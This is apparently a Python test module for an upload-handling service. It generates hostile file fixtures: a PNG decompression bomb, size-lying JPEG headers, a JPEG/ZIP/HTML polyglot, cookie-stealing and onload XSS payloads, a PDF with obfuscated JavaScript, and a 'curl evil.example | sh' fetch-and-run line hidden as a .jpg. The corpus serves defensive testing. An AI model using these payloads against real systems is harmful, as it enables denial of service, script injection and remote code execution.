"""A corpus of hostile and ordinary uploads, made by code (no binary fixtures in the repository),
and checks that each really is what it claims to be, so the tests using it prove something."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from PIL import ExifTags, Image

# Where the GPS EXIF of the phone photo says it was taken (Red Square): 55°45'21" N, 37°37'4" E.
GPS_LAT, GPS_LON = 55.755833, 37.617778
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"


def gps_exif(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Model] = "Phone 9"
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (55.0, 45.0, 21.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (37.0, 37.0, 4.0),
    }
    return exif


def phone_photo(size: tuple[int, int] = (2400, 1200), orientation: int = 6) -> bytes:
    """A JPEG as a phone writes it: GPS position, maker, XMP, and a sideways sensor (rotate 90°)."""
    out = io.BytesIO()
    image = Image.linear_gradient("L").resize(size).convert("RGB")
    image.save(out, "JPEG", exif=gps_exif(orientation), xmp=b"<x:xmpmeta>secret place</x:xmpmeta>")
    return out.getvalue()


def encoded(fmt: str, size: tuple[int, int] = (16, 16), mode: str = "RGB", **options: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, 128 if mode in ("L", "1") else None).save(out, fmt, **options)
    return out.getvalue()


def noisy(fmt: str, size: tuple[int, int] = (128, 128)) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 64).convert("RGB").save(out, fmt)
    return out.getvalue()


def truncated(fmt: str) -> bytes:
    raw = noisy(fmt)
    return raw[: len(raw) // 2]


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(side: int = 12_000) -> bytes:
    """A real decompression bomb: a valid greyscale PNG of side x side black pixels (144 MP by
    default, ~144 MB decoded) that weighs about 140 KB."""
    packer = zlib.compressobj(9)
    row = b"\x00" * (side + 1)  # filter byte + one byte per pixel
    idat = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def png_header_only(width: int, height: int) -> bytes:
    """A tiny PNG whose header promises a gigantic picture (a bomb that does not even decode)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + _png_chunk(b"IEND", b"")
    )


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header is rewritten to claim a huge size."""
    raw = bytearray(encoded("JPEG", (8, 8)))
    sof = raw.index(b"\xff\xc0")
    raw[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(raw)


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("index.html", HTML)
        archive.writestr("payload.sh", "#!/bin/sh\ncurl evil.example | sh\n")
    return out.getvalue()


def polyglot_jpeg() -> bytes:
    """A valid JPEG followed by a ZIP archive and an HTML page: opens as a photo, unzips, renders."""
    return phone_photo((64, 48), orientation=1) + zip_archive() + HTML


SCRIPT_AS_JPG = b"#!/bin/sh\ncurl evil.example | sh\n"  # uploaded as holiday.jpg, image/jpeg
HTML_AS_JPG = HTML
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
GIF = b"GIF89a" + b"\x01\x00\x01\x00\x00\x00\x00;"
EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00 this program cannot be run in DOS mode"


# -- videos (ISO base media file format) ---------------------------------------------------------


def box(kind: bytes, *payload: bytes) -> bytes:
    body = b"".join(payload)
    return struct.pack(">I", 8 + len(body)) + kind + body


def mvhd(seconds: float, timescale: int = 1000) -> bytes:
    return box(b"mvhd", b"\x00\x00\x00\x00", struct.pack(">IIII", 0, 0, timescale, int(seconds * timescale)))


def tkhd(width: int, height: int) -> bytes:
    before = b"\x00\x00\x00\x07" + bytes(20) + bytes(8) + bytes(8) + bytes(36)
    return box(b"tkhd", before, struct.pack(">II", width << 16, height << 16))


def video(
    seconds: float = 5.0,
    brand: bytes = b"isom",
    place: bytes | None = b"+55.7558+037.6173/",
    mdat: bytes = b"\x00\x00\x00\x10fake-frame-data!",
) -> bytes:
    """A structurally valid MP4/QuickTime file; phones put the place in moov/udta/©xyz."""
    ftyp = box(b"ftyp", brand, b"\x00\x00\x02\x00", brand, b"mp41")
    udta = box(b"udta", box(b"\xa9xyz", struct.pack(">HH", len(place), 0x15C7), place)) if place else b""
    meta = box(b"meta", b"\x00\x00\x00\x00", box(b"hdlr", bytes(24)), box(b"ilst", b"com.apple.make=Phone"))
    moov = box(
        b"moov", mvhd(seconds), box(b"trak", tkhd(1920, 1080), box(b"udta", b"camera serial 123")), udta, meta
    )
    return ftyp + moov + box(b"mdat", mdat)


def heic() -> bytes:
    return box(b"ftyp", b"heic", b"\x00\x00\x00\x00", b"mif1", b"heic") + box(b"mdat", b"not decodable")


# -- documents ----------------------------------------------------------------------------------


def pdf(body: bytes = b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n") -> bytes:
    return b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"


def pdf_with_javascript() -> bytes:
    return pdf(b"1 0 obj<</Type/Catalog/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>>>endobj\n")


def pdf_with_binary_stream() -> bytes:
    """Stream data may spell /JS by chance: only the document structure is looked at."""
    return pdf(b"4 0 obj<</Length 9>>stream\n\x00/JS /Launch\nendstream\nendobj\n")


# -- the corpus is what it claims ----------------------------------------------------------------


def test_the_phone_photo_really_carries_gps_xmp_and_orientation() -> None:
    with Image.open(io.BytesIO(phone_photo())) as image:
        exif = image.getexif()
        assert exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] == (55.0, 45.0, 21.0)
        assert exif[ExifTags.Base.Orientation] == 6
        assert "xmp" in image.info


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_the_bomb_is_small_but_promises_144_megapixels() -> None:
    bomb = png_bomb()
    assert len(bomb) < 400_000
    with Image.open(io.BytesIO(bomb)) as image:
        assert image.size == (12_000, 12_000)


def test_the_polyglot_is_a_jpeg_and_a_zip_and_html() -> None:
    raw = polyglot_jpeg()
    with Image.open(io.BytesIO(raw)) as image:
        image.load()
        assert image.format == "JPEG"
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        assert "index.html" in archive.namelist()
    assert raw.endswith(HTML)


def test_the_huge_jpeg_header_claims_what_it_says() -> None:
    raw = jpeg_declaring(60_000, 50_000)
    sof = raw.index(b"\xff\xc0")
    assert struct.unpack(">HH", raw[sof + 5 : sof + 9]) == (50_000, 60_000)
    with pytest.raises(Image.DecompressionBombError):  # Pillow's own guard, at twice its default
        Image.open(io.BytesIO(raw))


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_truncated_images_really_fail_to_decode(fmt: str) -> None:
    # Opening or decoding fails, whichever notices first.
    with (
        pytest.raises(OSError, match=r"truncated|decoder|broken"),
        Image.open(io.BytesIO(truncated(fmt))) as image,
    ):
        image.load()
